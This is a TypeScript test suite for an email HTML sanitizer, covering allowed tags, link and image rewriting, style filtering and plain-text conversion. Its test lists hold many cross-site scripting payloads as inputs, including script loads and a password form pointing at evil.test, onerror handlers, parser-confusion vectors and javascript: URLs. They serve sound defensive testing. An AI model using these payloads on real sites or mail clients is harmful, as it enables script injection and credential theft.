import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { readHtml } from '../../../../shared/mail/html/html.ts';

const safe = (source: string) => readHtml(source, { withText: true }).html;
const plain = (source: string) => readHtml(source, { withText: true }).text;

/** Every tag with its attributes, as a simple reader of well-formed HTML sees them. */
function tagsOf(html: string): { name: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<([a-z0-9]+)((?: [a-z-]+="[^"]*")*)>/g)].map(([, name = '', rest = '']) => ({
    name,
    attributes: [...rest.matchAll(/ ([a-z-]+)="([^"]*)"/g)].map(([, key = '', value = '']) => [key, value]),
  }));
}

/** Nothing but tags of the list, attributes of the list, and text without any markup. */
function expectHarmless(html: string): void {
  const rest = html.replace(/<\/?[a-z0-9]+(?: [a-z-]+="[^"<>]*")*>/g, '');
  expect(rest).not.toMatch(/</);
  for (const { name, attributes } of tagsOf(html)) {
    expect(name).toMatch(
      /^(?:a|abbr|address|article|aside|b|big|blockquote|br|caption|center|cite|code|dd|del|dfn|div|dl|dt|em|fig\w+|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/,
    );
    for (const [key, value] of attributes) {
      expect(key).toMatch(
        /^(?:align|alt|bgcolor|color|colspan|data-cid|data-remote-src|dir|height|href|rel|rowspan|start|style|target|width)$/,
      );
      if (key === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:)/i);
      if (key === 'style') expect(value).not.toMatch(/url|expression|position|display|[(]\D/i);
    }
  }
}

describe('what comes out', () => {
  test.each([
    ['<p>Hello <b>you</b></p>', '<p>Hello <b>you</b></p>'],
    ['<P CLASS=x ID=y>Hello', '<p>Hello</p>'],
    ['<ul><li>One<li>Two</ul>', '<ul><li>One</li><li>Two</li></ul>'],
    ['<p>One<p>Two', '<p>One</p><p>Two</p>'],
    [
      '<table><tr><td>a<td>b<tr><td>c</table>',
      '<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>',
    ],
    ['a</div></td></b>c', 'ac'],
    ['<b><i>x</b>y</i>', '<b><i>x</i></b>y'],
    ['one<br/>two<hr>', 'one<br>two<hr>'],
    ['5 &lt; 6 &amp;&amp; &eacute; < 7', '5 &lt; 6 &amp;&amp; &eacute; &lt; 7'],
    ['<div style="display:none">preview</div>text', 'text'],
    ['<div hidden>a<div>b</div>c</div>text', 'text'],
    ['<td colspan="2" rowspan=99999 bgcolor="#fff">x', '<td colspan="2" bgcolor="#fff">x</td>'],
    ['<font color=red face=x>x</font>', '<font color="red">x</font>'],
    ['<nothing-known>text</nothing-known>', 'text'],
  ])('of %s is %s', (source, html) => {
    expect(safe(source)).toBe(html);
  });

  test('of a style is what colours and stresses, and nothing that leaves its place or loads', () => {
    expect(
      safe('<b style="COLOR: Red; position:fixed; background:url(//x); font-weight:bold !important">x</b>'),
    ).toBe('<b style="color:Red;font-weight:bold">x</b>');
    expect(safe('<b style="color:red&quot;onclick=x;background-color:rgb(1, 2, 3)">x</b>')).toBe(
      '<b style="background-color:rgb(1, 2, 3)">x</b>',
    );
  });

  test('of a link leads out of the portal and says nothing of it', () => {
    expect(safe('<a href="https://a.test/?b=1&amp;c=%22" target=_self onclick=x>x</a>')).toBe(
      '<a href="https://a.test/?b=1&amp;c=%22" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    );
    expect(safe('<a href="//a.test/b">x</a>')).toContain('href="https://a.test/b"');
    expect(safe('<a href="www.a.test">x</a>')).toContain('href="http://www.a.test"');
  });

  test.each([
    'javascript:alert(1)',
    ' jAva\nscript:alert(1)',
    '&#106;avascript&colon;alert(1)',
    '\u0001javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    'file:///etc/passwd',
    '/v1/staff/accounts',
    '#top',
    'http:evil',
    `https://a.test/${'x'.repeat(3000)}`,
  ])('of a link to %s is its text', (href) => {
    expect(safe(`<a href="${href}">x</a>`)).toBe('<a>x</a>');
  });

  test('of a picture is where it would be, and nothing that loads it', () => {
    expect(
      safe(
        '<img src="https://a.test/p.gif" srcset="//a.test/q.gif" alt="A &quot;b" width=1 height=1 onerror=x>',
      ),
    ).toBe('<img data-remote-src="https://a.test/p.gif" alt="A &quot;b" width="1" height="1">');
    const { html, contentIds } = readHtml('<img src="cid:a%40b"><img src=" CID:c ">', { withText: true });
    expect(html).toBe('<img data-cid="a@b" alt=""><img data-cid="c" alt="">');
    expect([...contentIds]).toEqual(['a@b', 'c']);
    expect(safe('x<img src="data:image/png;base64,AAAA"><img src=local.png>')).toBe('x');
  });

  test('is nothing where it is longer than a ticket holds, or nothing is left', () => {
    expect(readHtml('<b>x</b>'.repeat(20_000), { withText: true })).toMatchObject({
      html: '',
      isWhole: false,
    });
    expect(readHtml('<style>p { color: red }</style> ', { withText: true })).toMatchObject({
      html: '',
      isWhole: true,
    });
  });

  test.each([
    '<script>run()</script>',
    '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
    '<scr<script>ipt>run()</scr</script>ipt>',
    '<img/src=x/onerror=run()>',
    '<svg><g/onload=run()//<p>',
    '<svg><style><img src=x onerror=run()></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=run()>"></noscript>',
    '<textarea><img title="</textarea><img src=x onerror=run()>"></textarea>',
    '<title><a alt="</title><img src=x onerror=run()>">',
    '<xmp><p title="</xmp><img src=x onerror=run()>">',
    '<iframe srcdoc="<script>run()</script>"></iframe>',
    '<!--><img src=x onerror=run()>-->',
    '<!--[if gte IE 4]><script>run()</script><![endif]-->',
    '<![CDATA[<img src=x onerror=run()>]]>',
    '<?xml <img src=x onerror=run()> ?>',
    '<img src=x onerror=run() ',
    '<a href="x" style="x:expression(run())" onmouseover=run()>x',
    '<table background="javascript:run()"><td background=x>',
    '<form action=//evil.test><input name=password><button formaction=//evil.test>x</button></form>',
    '<object data=x.swf><embed src=x></object><base href=//evil.test><meta http-equiv=refresh content=0>',
    '<plaintext><b>x',
    '<p title="a>b" \0 onclick=run()>x\0</p>',
    '<<b>b<<script>>run()',
    '"><img src=x onerror=run()>',
    '&lt;script&gt;run()&lt;/script&gt;',
  ])('of %s is harmless', (source) => {
    const html = safe(`<p>before</p>${source}`);
    expect(html).toContain('before');
    expectHarmless(html);
  });
});

describe('the text', () => {
  test.each([
    ['<div>One</div><div>Two</div>', 'One\nTwo'],
    ['<p>One</p><p>Two</p>', 'One\n\nTwo'],
    ['One<br>Two<br><br>Three', 'One\nTwo\n\nThree'],
    ['  One \n two\t<b> three</b>  four ', 'One two three four'],
    ['<div>One</div><div><br></div><div>Two</div>', 'One\n\nTwo'],
    ['<p class=MsoNormal>One</p><p class=MsoNormal>&nbsp;</p><p class=MsoNormal>Two</p>', 'One\n\nTwo'],
    ['<p style="margin:0">One</p><p style="margin:0">Two</p>', 'One\nTwo'],
    ['<ul><li>One</li><li>Two<ol start=3><li>Three</ol></ul>', '- One\n- Two\n\n  3. Three'],
    ['<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>', 'a\tb\nc\td'],
    ['<pre>  a\n    b</pre>c', '  a\n    b\n\nc'],
    ['<h1>Title</h1>text', 'Title\n\ntext'],
    ['One<hr>Two', `One\n${'_'.repeat(32)}\nTwo`],
    [
      'said:<blockquote>One<br>Two<blockquote>Three</blockquote></blockquote>me',
      'said:\n\n> One\n> Two\n>\n> > Three\n\nme',
    ],
    ['<style>x</style><title>y</title><script>z</script>text', 'text'],
    ['<a href="https://a.test/b?c=1&amp;d=2">here</a>', 'here <https://a.test/b?c=1&d=2>'],
    ['<a href="https://www.a.test/">a.test</a> <a href="mailto:b@a.test">b@a.test</a>', 'a.test b@a.test'],
    ['<a href="mailto:b@a.test?subject=x">b@a.test</a>', 'b@a.test'],
    ['<a href="mailto:b@a.test">B</a>', 'B <b@a.test>'],
    ['<a href="https://a.test/"><img src="cid:x"></a>', '<https://a.test/>'],
    ['<a href="javascript:x">here</a>', 'here'],
  ])('of %s is readable', (source, text) => {
    expect(plain(source)).toBe(text);
  });

  test('of a reply has its attribution right above the quote', () => {
    const source =
      '<div dir="ltr">New.</div><br><div class="gmail_quote"><div class="gmail_attr">On Mon, Support &lt;' +
      '<a href="mailto:support@portal.test">support@portal.test</a>&gt; wrote:<br></div><blockquote>Old.</blockquote></div>';
    expect(plain(source)).toBe('New.\n\nOn Mon, Support <support@portal.test> wrote:\n\n> Old.');
  });
});

describe('any source', () => {
  const pieces = [
    [
      '<',
      '>',
      '/',
      '=',
      '"',
      "'",
      '&',
      ';',
      '!',
      '-',
      '--',
      ' ',
      '\n',
      '\0',
      'x',
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
    ],
    [
      '<p',
      '</p>',
      '<b>',
      '</b>',
      '<a href="',
      'https://a.test',
      'javascript:',
      '<img src=',
      'cid:x',
      '&lt;',
      '&#60;',
    ],
    [
      '<table>',
      '<tr>',
      '<td',
      '</table>',
      '<li>',
      '<ul>',
      '<script>',
      '</script>',
      '<style>',
      '</style>',
      '<svg>',
    ],
    ['<textarea>', '<title>', '<xmp>', '<plaintext>', '<noscript>', ' style="', 'color:red', 'display:none'],
    [
      '<blockquote>',
      '<pre>',
      '<br>',
      '</br>',
      '<hr/>',
      '<math>',
      '<template>',
      '<iframe',
      ' hidden',
      '<A HREF=',
    ],
    [
      ' onclick=',
      'é',
      '<body onload=x>',
      '<form action=',
      '<input name=',
      '<base href=',
      '</td>',
      '</li>',
      '<h1>',
    ],
  ];
  const piece = fc.constantFrom(...pieces.flat());
  const source = fc.array(piece, { maxLength: 60 }).map((chosen) => chosen.join(''));

  test('comes out harmless, and the same once more', () => {
    fc.assert(
      fc.property(source, (given) => {
        const once = safe(given);
        expectHarmless(once);
        const again = once.replaceAll(' data-remote-src="', ' src="').replaceAll(' data-cid="', ' src="cid:');
        expect(safe(again)).toBe(once);
        plain(given);
      }),
      { numRuns: 3_000 },
    );
  });
});
